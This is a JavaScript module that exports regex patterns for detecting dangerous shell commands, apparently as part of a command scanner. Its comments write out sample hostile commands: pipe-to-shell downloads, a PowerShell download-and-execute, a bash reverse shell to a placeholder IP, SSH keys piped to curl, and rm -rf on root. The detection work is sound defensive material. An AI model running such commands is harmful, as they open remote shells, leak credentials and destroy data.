"use strict";
// Known-dangerous command shapes. Examples in comments are what each pattern is meant to catch.
module.exports = [
  // curl -fsSL https://x/install.sh | sh   /   wget -qO- ... | bash
  { id: "pipe-to-shell", re: /\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|z|da)?sh\b/i },
  // iwr https://x/a.ps1 | iex   /   IEX (New-Object Net.WebClient).DownloadString(...)
  { id: "ps-download-exec", re: /(\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|]*\|\s*iex\b)|\bIEX\s*\(\s*New-Object\s+Net\.WebClient/i },
  // powershell -EncodedCommand JAB...
  { id: "ps-encoded", re: /\bpowershell(\.exe)?\b[^\n]*\s-(e|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,}/i },
  // echo ... | base64 -d | sh
  { id: "b64-to-shell", re: /base64\s+(-d|--decode)[^|]*\|\s*(ba|z)?sh\b/i },
  // rm -rf / , rm -rf ~
  { id: "rm-root", re: /\brm\s+-[a-z]*(rf|fr)[a-z]*\s+(--no-preserve-root\s+)?(\/|~|\$HOME)(\s|$)/i },
  // bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
  { id: "reverse-shell", re: /\/dev\/tcp\/[\w.-]+\/\d+|\bnc\b[^\n]*\s-e\s+\/bin\/(ba)?sh|\bmkfifo\b[^\n]*\bnc\b/i },
  // cat ~/.ssh/id_rsa | curl -d @- ...
  { id: "secret-to-network", re: /(\.ssh\/id_|\.aws\/credentials|\.env\b|\.npmrc|\.git-credentials)[^\n]*\|\s*(curl|wget|nc)\b/i },
  // git push --mirror <url>
  { id: "git-mirror", re: /\bgit\s+push\b[^\n]*--mirror\b/i },
  // crontab / launchctl persistence
  { id: "persistence", re: /\b(crontab\s+-|launchctl\s+load|systemctl\s+--user\s+enable|schtasks\s+\/create)\b/i },
];
